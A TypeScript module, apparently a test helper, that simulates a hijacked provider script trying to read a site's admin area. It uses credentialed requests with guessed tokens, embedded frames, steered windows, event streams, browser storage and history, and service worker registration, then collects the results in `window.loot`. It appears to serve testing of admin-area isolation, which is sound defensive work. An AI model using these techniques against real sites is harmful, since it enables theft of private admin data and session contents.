/**
 * The results of a hostile script: every text that it could read, and everything that it could
 * install.
 */
export interface Loot {
  readonly texts: string[];
  readonly installed: string[];
}

/**
 * The script of a provider that was taken over. It runs in the page, so it can use nothing from
 * outside this function. It reads as much of the admin area as it can, from its own page and from
 * another public page that it opens, and stores the results in `window.loot`. It knows the host of the
 * admin area.
 */
export async function attack(adminOrigin: string): Promise<void> {
  const texts: string[] = [];
  const installed: string[] = [];
  const take = (value: unknown) => void texts.push(String(value));
  const bases = adminOrigin === origin ? [''] : ['', adminOrigin];
  const anywhere = (...paths: string[]) =>
    bases.flatMap((base) => paths.map((path) => base + path));
  const addresses = anywhere(
    '/admin',
    '/admin/people',
    '/admin/leads',
    '/admin/account',
    '/admin.data',
    '/admin/people.data',
    '/admin/leads.data',
    '/admin/leads/export',
    '/admin/media/list',
    '/admin/events',
    '/admin/login',
  );
  const pause = () => new Promise((resolve) => setTimeout(resolve, 50));

  /** Tries for two seconds, as long as the browser gives access. */
  async function readDocument(open: () => Document | null | undefined): Promise<void> {
    for (let round = 0; round < 40; round++) {
      try {
        const text = open()?.documentElement?.outerHTML;
        if (text !== undefined) take(text);
      } catch {
        // Out of reach for now.
      }
      await pause();
    }
  }

  async function request(from: typeof globalThis & Window, address: string): Promise<void> {
    const token = `guess.${'A'.repeat(43)}`;
    const credentials = 'include';
    const headerSets: Record<string, string>[] = [
      { Accept: 'text/html' },
      { Accept: 'text/event-stream' },
      { 'X-Admin-Token': token },
    ];
    for (const headers of headerSets) {
      for (const method of ['GET', 'POST']) {
        try {
          const abort = AbortSignal.timeout(2_000);
          take(
            await (
              await from.fetch(address, { method, headers, credentials, signal: abort })
            ).text(),
          );
        } catch {
          // Rejected, or a stream that does not end.
        }
      }
    }
    await new Promise<void>((resolve) => {
      const call = new from.XMLHttpRequest();
      call.onloadend = () => {
        take(call.responseText);
        resolve();
      };
      call.open('GET', address);
      call.withCredentials = true;
      call.send();
    });
  }

  function listen(from: typeof globalThis & Window): void {
    for (const address of anywhere('/admin/events')) {
      new from.EventSource(address, { withCredentials: true }).onmessage = ({ data }) => take(data);
    }
    new from.BroadcastChannel('admin-live').onmessage = ({ data }) => take(JSON.stringify(data));
  }

  async function embed(from: typeof globalThis & Window, address: string): Promise<void> {
    const page = from.document;
    const frame = page.createElement('iframe');
    const object = page.createElement('object');
    page.body.append(frame, object);
    frame.src = address;
    object.data = address;
    await Promise.all([
      readDocument(() => frame.contentDocument),
      readDocument(() => object.contentDocument),
    ]);
  }

  async function openWindows(from: typeof globalThis & Window, address: string): Promise<void> {
    const opened = from.open(address);
    const steered = from.open('/about');
    const named = from.open('/about', 'target');
    const form = from.document.createElement('form');
    form.method = 'post';
    form.action = address;
    form.target = 'target';
    from.document.body.append(form);
    await pause();
    if (steered !== null) steered.location.href = address;
    form.submit();
    await Promise.all([opened, steered, named].map((one) => readDocument(() => one?.document)));
    for (const one of [opened, steered, named]) one?.close();
  }

  async function readStores(from: typeof globalThis & Window): Promise<void> {
    take(JSON.stringify({ ...from.localStorage }));
    take(JSON.stringify({ ...from.sessionStorage }));
    take(JSON.stringify(await from.indexedDB.databases()));
    for (const name of await from.caches.keys()) {
      const cache = await from.caches.open(name);
      for (const { url } of await cache.keys()) take(url);
    }
    take(from.document.referrer);
    take(JSON.stringify(from.history.state));
    const { navigation } = from as unknown as {
      navigation: { entries(): { url: string | null }[]; activation?: { from?: { url?: string } } };
    };
    for (const { url } of navigation.entries()) take(url);
    take(navigation.activation?.from?.url);
  }

  async function install(from: typeof globalThis & Window): Promise<void> {
    for (const address of ['/admin/media/list', '/provider-failures', ...ownScripts(from)]) {
      await from.navigator.serviceWorker.register(address).then(
        () => installed.push(address),
        () => undefined,
      );
    }
  }
  const ownScripts = (from: Window) =>
    [...from.document.scripts].map(({ src }) => src).filter((src) => src.startsWith(origin));

  async function everything(from: typeof globalThis & Window): Promise<void> {
    const attempts = [
      ...addresses.map((address) => request(from, address)),
      ...anywhere('/admin', '/admin/people', '/admin/login').map((address) => embed(from, address)),
      ...anywhere('/admin/people').map((address) => openWindows(from, address)),
      readStores(from),
      install(from),
    ];
    try {
      listen(from);
    } catch {
      // Rejected at once.
    }
    await Promise.allSettled(attempts);
  }

  const quiet = window.open('/about') as (typeof globalThis & Window) | null;
  for (let round = 0; round < 100 && quiet?.document.readyState !== 'complete'; round++) {
    await pause();
  }
  await everything(window);
  if (quiet !== null) {
    // Shows that the attack itself works: a public page can be read in each of these ways.
    take(await (await quiet.fetch('/contact')).text());
    await everything(quiet);
    quiet.close();
  }
  Object.assign(window, { loot: { texts, installed } });
}
